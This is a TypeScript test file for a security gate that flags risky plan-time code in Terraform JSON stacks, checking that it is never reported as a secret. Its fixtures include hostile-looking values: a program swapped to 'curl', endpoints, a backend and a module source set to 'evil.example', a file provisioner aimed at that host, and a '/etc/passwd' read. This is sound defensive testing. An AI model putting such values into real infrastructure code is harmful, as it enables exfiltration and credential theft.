import { join } from "node:path";
import type { Environment } from "../../../model/environment";
import { loadGames } from "../../../model/load";
import { stacksOf } from "../../../model/stack-names";
import type { JsonObject } from "../../../preview/affected/json";
import { gate } from "../../../preview/gate/gate";
import { knownOf } from "../../../preview/gate/known";
import { gateProblem } from "../../../preview/gate/problem";
import { attacks } from "./support/attacks";
import { aws, base, data, inBucket, resource, terraform } from "./support/stacks";
import { Deployment, root, shipped } from "../../support/deployment";

const known = knownOf([base]);
const role = [{ role_arn: "arn:aws:iam::1:role/plan" }];
const tagged = { region: "us-east-1", default_tags: [{ tags: { a: "b" } }] };

/** Where the gate finds something in base with this laid over it. */
function found(change: JsonObject): string[] {
  return gate({ ...base, ...change }, base, known).map(({ pointer }) => pointer);
}

test.each(attacks)("finds %s", (_attack, change, pointer) => {
  expect(found(change)).toContain(pointer);
});

test.each<[change: string, head: JsonObject]>([
  ["nothing at all", {}],
  [
    "another alias, tags and region",
    {
      provider: {
        aws: [
          { region: "us-east-1", assume_role: role },
          { ...tagged, alias: "us", assume_role: role },
        ],
      },
    },
  ],
  [
    "the same provider with its full name",
    {
      terraform: {
        ...terraform,
        required_providers: { aws: { source: "registry.terraform.io/hashicorp/aws", version: "6.1.0" } },
      },
    },
  ],
  ["a variable that has a value", { variable: { x: { default: "x" } } }],
  ["a data source of a type that is read already", { data: { ...data, aws_ami: { bsd: { owners: ["amazon"] } } } }],
  ["a state beside those that are known", inBucket({ key: "live/prod-edge-tokyo.tfstate" })],
  ["a resource that needs no provider", resource({ input: 1 })],
  ["a file of its own", { locals: { x: '${file("assets/x/0123/a.txt")}' } }],
  ["text about files", { output: { x: { value: 'file("/etc/passwd") $${file("/etc/passwd")}' } } }],
])("lets through %s", (_change, head) => {
  expect(found(head)).toEqual([]);
});

test("a stack may not be set up as another one of base, a new one may", () => {
  const head = aws({ assume_role: [{ role_arn: "arn:aws:iam::1:role/plan" }] });
  const other = { provider: { aws: { region: "eu-central-1" } } };

  expect(gate(head, other, knownOf([base, other])).map(({ pointer }) => pointer)).toEqual([
    "/provider/aws/0/assume_role",
    "/provider/aws/0",
  ]);
  expect(gate(head, undefined, knownOf([base, other]))).toEqual([]);
});

describe("word for word as in base is not enough: what the words stand for counts", () => {
  const runs = { "local-exec": { command: "${self.input}" } };
  const sends = { file: { source: "a", destination: "b" } };
  const before: JsonObject = {
    terraform: {
      required_providers: { aws: { source: "hashicorp/aws" } },
      backend: { s3: { bucket: "${var.bucket}" } },
    },
    locals: {
      program: ["${local.tool}"],
      tool: "./ok.sh",
      endpoint: "https://sts.amazonaws.com",
      unused: 1,
      name: "x",
    },
    variable: { bucket: { default: "states" } },
    provider: { aws: [{ endpoints: [{ sts: "${ local\n.endpoint}" }] }] },
    data: {
      external: { known: { program: "${local.program}", query: { a: "${terraform_data.one.input}" } } },
      http: { known: { url: "${local.endpoint}${resource.terraform_data.two.input}" } },
      terraform_remote_state: { x: { backend: "s3", for_each: ["a"], config: { bucket: "${each.key}" } } },
    },
    module: { net: { source: "${var.bucket}" } },
    resource: {
      terraform_data: {
        one: { input: "x" },
        two: { input: "${local.name}" },
        runs: { input: "x", provisioner: [runs] },
        sends: { provisioner: [sends], connection: { host: "ours.example" } },
      },
    },
  };
  const things = (before["resource"] as JsonObject)["terraform_data"] as JsonObject;
  const local = (change: JsonObject): JsonObject => ({ locals: { ...(before["locals"] as JsonObject), ...change } });
  const changed = (change: JsonObject): JsonObject => ({ resource: { terraform_data: { ...things, ...change } } });
  const evil = "https://evil.example";

  test.each<[string, JsonObject, string[]]>([
    ["a local behind a local of a program", local({ tool: "curl" }), ["/data/external/known"]],
    [
      "a local in a list of locals",
      { locals: [local({ program: ["curl"] })["locals"] ?? {}] },
      ["/data/external/known"],
    ],
    ["an endpoint", local({ endpoint: evil }), ["/provider/aws/0/endpoints", "/data/http/known"]],
    ["a resource that a program is given", changed({ one: { input: "y" } }), ["/data/external/known"]],
    ["a local behind a resource", local({ name: "y" }), ["/data/http/known"]],
    [
      "a variable of a backend and a module",
      { variable: { bucket: { default: evil } } },
      ["/terraform/backend/s3/bucket", "/module/net/source"],
    ],
    [
      "what a program knows of its resource",
      changed({ runs: { input: "env", provisioner: [runs] } }),
      ["/resource/terraform_data/runs/provisioner/0/local-exec"],
    ],
    [
      "where a file is sent",
      changed({ sends: { provisioner: [sends], connection: { host: "evil.example" } } }),
      ["/resource/terraform_data/sends/provisioner/0/file"],
    ],
    [
      "which states are read",
      {
        data: {
          ...(before["data"] as JsonObject),
          terraform_remote_state: { x: { backend: "s3", for_each: ["b"], config: { bucket: "${each.key}" } } },
        },
      },
      ["/data/terraform_remote_state/x/for_each"],
    ],
    ["nothing that is referred to", local({ unused: 2 }), []],
  ])("%s", (_what, change, pointers) => {
    expect(gate({ ...before, ...change }, before, knownOf([before])).map(({ pointer }) => pointer)).toEqual(pointers);
  });
});

test("what is missing counts: without it, a place is reached as somebody else", () => {
  const before: JsonObject = {
    terraform: { backend: { s3: { bucket: "b", key: "a/x", role_arn: "arn:1" } } },
    provider: { aws: [{ region: "eu-west-1", assume_role: [{ role_arn: "arn:1" }], profile: "ro" }] },
    data: { terraform_remote_state: { x: { backend: "s3", config: { bucket: "b", key: "a/y", role_arn: "arn:1" } } } },
    resource: { aws_vpc: { one: {}, two: {} } },
  };
  const pointers = (change: JsonObject): string[] =>
    gate({ ...before, ...change }, before, knownOf([before])).map(({ pointer }) => pointer);

  expect(pointers({ provider: { aws: [{ region: "eu-west-1", profile: "ro" }] } })).toEqual(["/provider/aws/0"]);
  expect(pointers({ provider: {} })).toEqual(["/resource/aws_vpc/one"]);
  expect(pointers({ terraform: { backend: { s3: { bucket: "b", key: "a/x" } } } })).toEqual(["/terraform/backend/s3"]);
  expect(
    pointers({ data: { terraform_remote_state: { x: { backend: "s3", config: { bucket: "b", key: "a/y" } } } } }),
  ).toEqual(["/data/terraform_remote_state/x"]);
});

test("no value is told: it can be a secret", () => {
  const findings = gate({ ...base, ...aws({ secret_key: "hunter2", endpoints: "https://hunter2@x" }) }, base, known);

  expect(findings).toHaveLength(3);
  expect(JSON.stringify(gateProblem("prod-home", findings))).not.toContain("hunter2");
  expect(gateProblem("prod-home", findings)).toEqual({
    code: "gate/plan-time-code",
    what:
      "planning `prod-home` would do what base does not: has credentials of the provider `aws` in clear: `secret_key` " +
      "(`/provider/aws/0/secret_key`); sets `endpoints` of the provider `aws` otherwise than base (`/provider/aws/0/endpoints`); " +
      "sets up the provider `aws` with other settings, or without some, than base (`/provider/aws/0`)",
    fix: "read these places, and plan it with `--trust-head` if they may run with the credentials at hand",
  });
});

describe("this project's games", () => {
  const deployment = new Deployment();
  afterAll(() => deployment.remove());

  function synth(environments: readonly Environment[]): Map<string, JsonObject> {
    deployment.synth(...environments);
    const names = environments.flatMap((one) => stacksOf(one));
    return new Map(names.map((name) => [name, JSON.parse(deployment.json(name)) as JsonObject]));
  }

  function findings(from: ReadonlyMap<string, JsonObject>, to: ReadonlyMap<string, JsonObject>): unknown[] {
    const all = knownOf([...from.values()]);
    return [...to].flatMap(([name, stack]) => gate(stack, from.get(name), all).map((one) => ({ name, ...one })));
  }

  test("no stack is found to do what it does already", () => {
    const all = synth(loadGames(join(root, "games")).environments.map(({ environment }) => environment));

    expect(all.size).toBeGreaterThan(20);
    expect(findings(all, all)).toEqual([]);
  });

  test("a new edge, and a new environment, are ordinary changes", () => {
    const [dev, prod] = [shipped("starfall", "dev"), shipped("starfall", "prod")];
    const edges = Object.entries(dev.edges).filter(([name]) => name !== "tokyo");
    const before = synth([{ ...dev, edges: Object.fromEntries(edges) }]);

    expect(findings(before, synth([dev]))).toEqual([]);
    expect(findings(before, synth([dev, prod]))).toEqual([]);
  });
});
